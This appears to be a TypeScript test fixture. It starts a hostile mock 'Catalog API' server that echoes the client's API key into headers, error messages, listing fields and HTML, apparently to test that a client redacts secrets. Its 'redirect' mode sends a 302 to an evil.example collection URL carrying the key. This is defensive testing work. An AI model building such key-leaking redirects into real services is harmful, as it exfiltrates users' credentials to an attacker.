import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';

/**
 * A hostile Catalog API stand-in that echoes the API key it receives into every place a client might print:
 * error messages, request ids, crawl fields, redirect targets and HTML pages.
 */
export type EchoMode =
  | 'crawl-echo'
  | 'running-echo'
  | 'error-body'
  | 'auth'
  | 'server-error'
  | 'redirect'
  | 'results-echo';

export interface EchoServer {
  url: string;
  requests: { method: string; path: string }[];
  close(): Promise<void>;
}

export async function startEchoServer(mode: EchoMode): Promise<EchoServer> {
  const requests: { method: string; path: string }[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((req, res) => {
    const key = String(req.headers['x-api-key'] ?? req.headers.authorization ?? '');
    const url = new URL(req.url ?? '/', 'http://echo.invalid');
    const method = req.method ?? 'GET';
    requests.push({ method, path: url.pathname });
    const last = decodeURIComponent(url.pathname.split('/').pop() ?? '');
    const id = last.startsWith('crawl-') ? last : 'crawl-echo-example-1a2b3c4d';
    const json = (status: number, body: unknown, headers: Record<string, string> = {}) => {
      res.writeHead(status, { 'content-type': 'application/json', 'request-id': `req_${key}`, ...headers });
      res.end(JSON.stringify(body));
    };
    req.resume();
    req.on('end', () => {
      switch (mode) {
        case 'crawl-echo':
        case 'running-echo': {
          const running = mode === 'running-echo';
          if (method === 'POST')
            return json(202, { execution_id: id, status: 'pending', meta: { credits_used: 0, note: key } });
          if (method === 'DELETE')
            return json(200, { status: 'canceled', execution_id: id, stop_date: null, message: key });
          if (url.pathname === '/v2/crawl' || url.pathname === '/v2/crawl/') {
            return json(200, {
              data: [{ execution_id: id, status: 'failed', created_at: key }],
              pagination: {
                page: 1,
                page_size: 20,
                total_items: 1,
                total_pages: 1,
                has_next: false,
                has_prev: false,
              },
              meta: { key },
            });
          }
          return json(200, {
            execution_id: id,
            status: running ? 'running' : 'failed',
            error: running ? null : `Crawl failed: the site rejected the key ${key}`,
            meta: {
              vendor: `vendor-${key}.example`,
              start_date: '2026-01-01T00:00:00Z',
              stop_date: null,
              duration_ms: 1000,
              progress: { collections_found: 1, listings_found: 2 },
              steps: [
                { name: `Determining ${key}`, status: 'completed' },
                { name: 'Discovering collections', status: running ? 'running' : 'failed' },
              ],
            },
          });
        }
        case 'results-echo': {
          // The results endpoints: two pages of listings whose every text field carries the key.
          const page = Number(url.searchParams.get('page') ?? '1');
          const data = Array.from({ length: 3 }, (_, i) => ({
            id: `lst_${page}_${i}_${key}`,
            url: `https://echo.example/products/${encodeURIComponent(key)}-${page}-${i}`,
            name: `Tee ${key}`,
            images: [{ url: `https://cdn.echo.example/${key}.jpg`, position: 1 }],
            price: { currency: key.slice(0, 3), current_value: 10, compare_at_value: null },
            vendor: `echo-${key}.example`,
            first_seen_by_catalog: key,
            last_updated_by_catalog: key,
          }));
          const paging = { page, page_size: 3, total_items: 6, total_pages: 2, has_next: page < 2 };
          if (url.pathname === '/v2/collections')
            return json(500, { error: { code: 'INTERNAL_ERROR', message: `boom ${key}`, request_id: key } });
          return json(200, { data, pagination: { ...paging, has_prev: page > 1 }, meta: { key } });
        }
        case 'error-body':
          return json(400, {
            error: { code: 'VALIDATION_ERROR', message: `bad key ${key}`, request_id: `req_${key}` },
          });
        case 'auth':
          return json(401, { error: `Invalid API key ${key}`, status: 401 });
        case 'server-error':
          res.writeHead(503, { 'content-type': 'text/html', 'request-id': `req_${key}`, 'retry-after': '0' });
          return res.end(`<html><body>upstream rejected ${key}</body></html>`);
        case 'redirect':
          res.writeHead(302, {
            location: `http://evil.example/collect?key=${encodeURIComponent(key)}`,
            'request-id': key,
          });
          return res.end(`Moved to http://evil.example/collect?key=${key}`);
      }
    });
  });
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        for (const socket of sockets) socket.destroy();
      }),
  };
}
